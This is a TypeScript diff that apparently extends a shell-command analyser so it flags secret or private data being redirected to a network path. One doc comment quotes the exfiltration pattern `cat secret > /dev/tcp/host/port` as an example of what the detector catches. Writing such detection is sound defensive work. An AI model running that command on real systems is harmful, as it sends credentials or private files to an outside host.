@@ -5,7 +5,7 @@ import type { Program } from "../dangers/program.ts";
 import { type Call, useOf } from "../dangers/use.ts";
 import { variableEffects } from "../dangers/variables.ts";
 import { fileFinding } from "../judge/file-findings.ts";
-import { runsFlow } from "../judge/flow-findings.ts";
+import { runsFlow, sendFinding } from "../judge/flow-findings.ts";
 import { placeOf } from "../judge/place.ts";
 import { type Draft, note, openDraft, outputOf, partOf } from "./draft.ts";
 import { applyEffects, keepMade, touch } from "./effects.ts";
@@ -15,7 +15,7 @@ import { followBuiltin } from "./state.ts";
 import type { Streams } from "./redirections.ts";
 import type { Walk } from "./walking.ts";
 import { nameOf, whoIs } from "./who.ts";
-import { isLiteral, isUnknown, literal, type Word } from "./word.ts";
+import { type Flow, isLiteral, isUnknown, literal, type Word } from "./word.ts";
 
 export type Invocation = { variables: readonly Variable[]; streams?: Streams; isPlain: boolean };
 
@@ -39,6 +39,7 @@ export function invoke(
   const row = understand(draft, here);
   for (const effect of streams?.effects ?? []) touchStream(effect, draft);
   finish(draft, row);
+  sendStreams(streams?.effects ?? [], draft.flows, draft);
   const isBare = (streams?.effects.length ?? 0) === 0;
   walk.report.parts.push(partOf(draft, { isPlain: isPlain && isBare, row }));
   return outputOf(draft);
@@ -53,10 +54,11 @@ function withVariables(walk: Walk, variables: readonly Variable[]): Walk {
 }
 
 /** Redirections of a group of commands, or of none: `> file`. */
-export function tellStreams({ effects }: Streams, walk: Walk): void {
+export function tellStreams({ effects }: Streams, walk: Walk, { flows }: Output = silent): void {
   if (effects.length === 0) return;
   const draft = openDraft([], [], walk);
   for (const effect of effects) touchStream(effect, draft);
+  sendStreams(effects, flows, draft);
   const path = effects.map((effect) => ("path" in effect ? effect.path.text : "")).join(" ");
   walk.report.parts.push(
     partOf({ ...draft, words: [literal(`> ${path}`)] }, { isPlain: false, row: undefined }),
@@ -73,6 +75,14 @@ export function tellVariables(variables: readonly Variable[], walk: Walk): void 
 /** Words as a command of its own. */
 export const runWords = (words: readonly Word[], walk: Walk): Output =>
   invoke(words, { variables: [], isPlain: false }, walk);
+
+/** `cat secret > /dev/tcp/host/port`. */
+function sendStreams(effects: readonly Effect[], flows: ReadonlySet<Flow>, draft: Draft): void {
+  if (!flows.has("secret") && !flows.has("private")) return;
+  for (const effect of effects)
+    if (effect.type === "writes" && placeOf(effect.path.text, aroundOf(draft.walk.shell)).kind === "network")
+      note(draft, sendFinding({ to: effect.path, flows, files: [] }));
+}
 
 function touchStream(effect: Effect, draft: Draft): void {
   if (effect.type === "reads" || effect.type === "writes") touch(effect, { ...draft, made: [] });
